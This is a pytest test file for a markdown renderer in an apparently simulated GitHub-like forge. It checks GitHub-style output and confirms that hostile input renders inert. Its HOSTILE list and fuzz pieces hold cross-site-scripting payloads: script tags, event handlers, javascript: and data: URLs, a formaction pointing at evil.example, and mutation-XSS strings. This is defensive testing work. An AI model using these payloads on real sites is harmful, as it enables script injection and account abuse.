"""Markdown as GitHub shows it, and nothing in it that acts."""

from html import escape
from html.parser import HTMLParser
from typing import Any, ClassVar

import pytest
from hypothesis import given
from hypothesis import strategies as st

from engine.sandbox.forge.pages.markdown import rendered

SHOWN = [
    ("bold and code", "**a** `b`", "<p><strong>a</strong> <code>b</code></p>"),
    ("a heading stands below the page's own", "# Title", '<h3 id="user-content-c-title">Title</h3>'),
    ("a line ends where it ends", "a\nb", "<p>a<br>\nb</p>"),
    ("a table", "|a|\n|-|\n|1|", "<td>1</td>"),
    ("columns keep their side, without a style", "|a|\n|-:|\n|1|", '<td align="right">1</td>'),
    ("what is to do", "- [x] done\n- [ ] open", '<li class="task-list-item"><span class="task">☑</span> done</li>'),
    (
        "details",
        "<details open><summary>s</summary>\n\n*x*\n</details>",
        '<details open=""><summary>s</summary>\n<p><em>x',
    ),
    ("a difference in colours", "```diff\n+ a\n```", '<span class="ins">+ a</span>'),
    ("a footnote", "a[^1]\n\n[^1]: n", '<a href="#user-content-c-fn1" id="user-content-c-fnref1"'),
    ("an alert", "> [!WARNING]\n> x", '<div class="markdown-alert markdown-alert-warning">'),
    ("emoji", ":x: :no_such: ", "❌ :no_such:"),
    ("an address", "see https://example.com/a", '<a href="https://example.com/a" rel="nofollow noopener noreferrer">'),
    ("struck out", "~~a~~", "<s>a</s>"),
    ("somebody", "@ann wrote", '<a class="mention" href="/ann"'),
    ("somebody in another case", "cc @ANN.", '<a class="mention" href="/ann"'),
    ("a team", "@acme/security", '<a class="mention" href="/orgs/acme/teams/security"'),
    ("an issue", "see #1", '<a class="reference" href="/acme/dev-deployment/issues/1"'),
    ("a pull request", "(#2)", '<a class="reference" href="/acme/dev-deployment/pull/2"'),
    ("one of another repository", "acme/dev-deployment#2", '<a class="reference" href="/acme/dev-deployment/pull/2"'),
    ("nobody", "@nobody-of-that-name", "<p>@nobody-of-that-name</p>"),
    ("no issue", "#999", "<p>#999</p>"),
    ("an e-mail address is nobody", "x@ann", "<p>x@ann</p>"),
    ("in code nobody is meant", "`@ann #1`", "<p><code>@ann #1</code></p>"),
    ("a link's text is no link", "[@ann](https://a.example)", '<p><a href="https://a.example"'),
    ("an image is a link", "![w](https://a.example/p.png)", '<a href="https://a.example/p.png"'),
    ("an image in a link is its text", "[![w](https://a.example/p.png)](/x)", "<span>[image: w]</span></a>"),
    ("what turns reading round is shown", "a\u202eb", "<p>aU+202Eb</p>"),
    ("an emoji of two parts stays", "👩\u200d💻", "<p>👩\u200d💻</p>"),
]  # fmt: skip - a table is read by its rows


@pytest.mark.parametrize(("why", "text", "html"), SHOWN, ids=[row[0] for row in SHOWN])
def test_as_github_shows_it(scene, why, text, html):
    assert html in _render(scene, text), why


def test_in_a_file_links_are_relative_to_it_and_lines_flow(scene):
    repo = scene.forge.repository("acme", "dev-deployment")
    file = "/acme/dev-deployment/blob/dev/docs/README.md"
    html = rendered(scene.forge, lambda _: True, repo, "a\nb [n](../notes.md) [t](#top) ![p](p.png)", "f", file=file)
    assert "a\nb" in html
    assert 'href="/acme/dev-deployment/blob/dev/notes.md"' in html
    assert 'href="#user-content-f-top"' in html
    assert 'href="/acme/dev-deployment/blob/dev/docs/p.png"' in html


def test_a_repository_that_one_may_not_see_is_not_linked(scene):
    repo = scene.forge.repository("acme", "dev-deployment")
    html = rendered(scene.forge, lambda _: False, repo, "acme/dev-deployment#2", "c")
    assert html == "<p>acme/dev-deployment#2</p>\n"


HOSTILE = [
    ("a script", "<script>alert(1)</script>x"),
    ("a handler", "<b onclick=alert(1)>x</b>"),
    ("an image's handler", "<img src=x onerror=alert(1)>"),
    ("javascript", "[x](javascript:alert(1)) <a href='javascript:alert(1)'>x</a>"),
    ("javascript in disguise", "<a href=' jav&#x0A;ascript:alert(1)'>x</a> <a href='&#1;javascript:alert(1)'>x</a>"),
    ("data", "[x](data:text/html,<script>alert(1)</script>)"),
    ("a frame", "<iframe src=/></iframe><object data=/></object><embed src=/>"),
    ("a form of its own", "<form action=/logout method=post><input name=token><button>go</button></form>"),
    ("a button of a form of ours", "<button form=x formaction=//evil.example>Approve</button>"),
    ("a style", "<style>body{display:none}</style><p style='position:fixed;inset:0'>x</p>"),
    ("a class of the page", "<div class='box merge good skip'>Ready to merge</div>"),
    ("an id of the page", "<h1 id=main>x</h1><a name=main>x</a>"),
    (
        "svg and math",
        "<svg onload=alert(1)><math><mtext><style><img src onerror=alert(1)></style></mtext></math></svg>",
    ),
    ("markup that is not closed", "<details><table><tr><td><div><b"),
    ("markup that closes the page's", "</div></article></main></body></html><h1>x</h1>"),
    (
        "a template, a base, meta, link",
        "<template><img src=x></template><base href=//e><meta http-equiv=refresh><link href=/>",
    ),
    ("comments", "<!--><img src=x onerror=alert(1)>--> <!-- <script> -->"),
    ("an alert with markup in it", "> [!NOTE]<img src=x onerror=alert(1)>\n> x"),
    ("code's language", '```"><script>alert(1)</script>\nx\n```'),
    ("a footnote's label", 'x[^"><script>]\n\n[^"><script>]: y'),
    ("an image's text", '![<img src=x onerror=alert(1)>" onerror="x](https://a.example/"onerror=alert(1))'),
    ("what images are made of", "<img alt='</a><script>' src='https://a.example/&quot;><script>'>"),
    ("a mention in a tag", '<a title="@ann #1" href="#1">x</a>'),
]  # fmt: skip - a table is read by its rows


@pytest.mark.parametrize(("why", "text"), HOSTILE, ids=[row[0] for row in HOSTILE])
def test_nothing_in_it_acts(scene, why, text):
    assert _Strict.faults(_render(scene, text)) == [], why


PIECES = [
    *"<>\"'`&)!#|-\\ \0\u202e😀",
    *(
        "```",
        "\n",
        "\n\n",
        "[",
        "](",
        "@ann",
        "<b ",
        "</a>",
        "<img src=x onerror=y>",
        "<script>",
        "</script>",
        "javascript:x",
    ),
    *("[^1]", "[^1]: ", "> [!NOTE]\n", "<details>", "<a href=", "style=x", "<!--", "-->"),
]


@given(st.lists(st.sampled_from(PIECES) | st.text(max_size=3), max_size=25).map("".join))
def test_no_text_becomes_anything_that_acts(text):
    class Nobody:
        class kept:  # noqa: N801 - stands for an attribute
            row = staticmethod(lambda *_: None)

        repository = staticmethod(lambda *_: None)

    assert _Strict.faults(str(rendered(Nobody, lambda _: False, {}, text, "c"))) == []  # type: ignore[arg-type]


@pytest.mark.parametrize("sign", ["[", "![", "|", "<div>"])
def test_a_text_that_would_take_seconds_is_shown_as_it_was_written(scene, sign):
    text = sign * (65536 // len(sign))
    html = _render(scene, text)
    assert html == f"<pre>{escape(text)}</pre>"


def _render(scene: Any, text: str) -> str:
    repo = scene.forge.repository("acme", "dev-deployment")
    return str(rendered(scene.forge, lambda _: True, repo, text, "c"))


class _Strict(HTMLParser):
    """Whatever is neither text nor a tag or attribute that a text may have; and tags that are not closed."""

    ALLOWED: ClassVar = {
        "href": ("http://", "https://", "mailto:", "/", "#user-content-c-"),
        "id": ("user-content-c-",),
        "rel": ("nofollow",),
        **dict.fromkeys(("title", "align", "open", "start", "colspan", "rowspan"), ("",)),
    }
    CLASSES = frozenset(
        [
            "mention",
            "reference",
            "footnote-ref",
            "footnote-item",
            "footnote-backref",
            "footnotes",
            "markdown-alert",
            "markdown-alert-title",
            "markdown-alert-note",
            "markdown-alert-warning",
            "task",
            "task-list-item",
            "contains-task-list",
            "ins",
            "del",
            "hunk",
            "k",
            "s",
            "m",
            "n",
            "c",
        ]
    )
    TAGS = frozenset(
        [
            "a",
            "abbr",
            "b",
            "blockquote",
            "br",
            "code",
            "dd",
            "del",
            "details",
            "div",
            "dl",
            "dt",
            "em",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "ins",
            "kbd",
            "li",
            "ol",
            "p",
            "pre",
            "q",
            "s",
            "samp",
            "section",
            "small",
            "span",
            "strike",
            "strong",
            "sub",
            "summary",
            "sup",
            "table",
            "tbody",
            "td",
            "tfoot",
            "th",
            "thead",
            "tr",
            "tt",
            "u",
            "ul",
            "var",
        ]
    )

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self.open: list[str] = []

    @classmethod
    def faults(cls, html: str) -> list[str]:
        read = cls()
        read.feed(html)
        read.close()
        return read.found + [f"{tag} is not closed" for tag in read.open]

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        if tag not in self.TAGS:
            self.found.append(f"<{tag}>")
        if tag not in ("br", "hr"):
            self.open.append(tag)
        for name, value in attrs:
            if name == "class" and self.CLASSES.issuperset((value or "").split()):
                continue
            if name == "href" and ":" not in (value or "") and not (value or "").startswith("//"):
                continue  # relative: stays on this forge
            if not (value or "").startswith(self.ALLOWED.get(name, ("\0",))):
                self.found.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        if tag in ("br", "hr"):
            return
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")
